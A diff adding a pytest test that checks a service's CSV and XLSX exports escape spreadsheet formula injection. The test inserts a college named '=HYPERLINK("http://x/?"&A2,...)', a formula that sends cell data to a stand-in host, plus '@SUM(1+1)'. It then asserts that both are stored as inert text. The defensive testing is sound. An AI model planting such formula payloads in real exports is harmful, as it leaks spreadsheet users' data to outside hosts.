@@ -2,6 +2,7 @@
 
 import hashlib
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -211,3 +212,32 @@ def test_feed_publication_freezes_published_items(client, db, resource, dataset,
     assert client.get(f"{PUBLICATIONS}/{publication['id']}/export").content == export
     again = publish(client, publisher, period, dataset).json()
     assert again["version"] == 2 and again["row_count"] == 0
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"点击")'
+
+
+def test_exports_never_run_formulas(client, db):
+    """A college named like a formula: the CSV cell starts with `'`, the XLSX cell is a
+    string (no `<f>` in the sheet), numbers stay numbers."""
+    college, college_h = college_headers(client, db, name=FORMULA)
+    other, other_h = college_headers(client, db, name="@SUM(1+1)")
+    _, edu = department_headers(client, db, Department.education)
+    submit(client, college, college_h, [cohort(P)])
+    submit(client, other, other_h, [cohort(P, SECONDARY_MAJOR)])
+    publication = publish(client, edu).json()
+    export = client.get(f"{PUBLICATIONS}/{publication['id']}/export").content
+    assert hashlib.sha256(export).hexdigest() == publication["sha256"]
+    text = export.decode("utf-8-sig")
+    assert FORMULA not in text.replace('""', '"').replace("'" + FORMULA, "")
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
+    assert ",40," in text  # headcounts are plain numbers
+    xlsx = client.get(f"{PUBLICATIONS}/{publication['id']}/export", params={"format": "xlsx"})
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert all(b"<f>" not in book.read(n) for n in sheets)
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    named = [c for c in cells if c.value in (FORMULA, "@SUM(1+1)")]
+    assert len(named) == 2 and all(c.data_type == "s" for c in named)
+    assert any(c.value == 40 and c.data_type == "n" for c in cells)
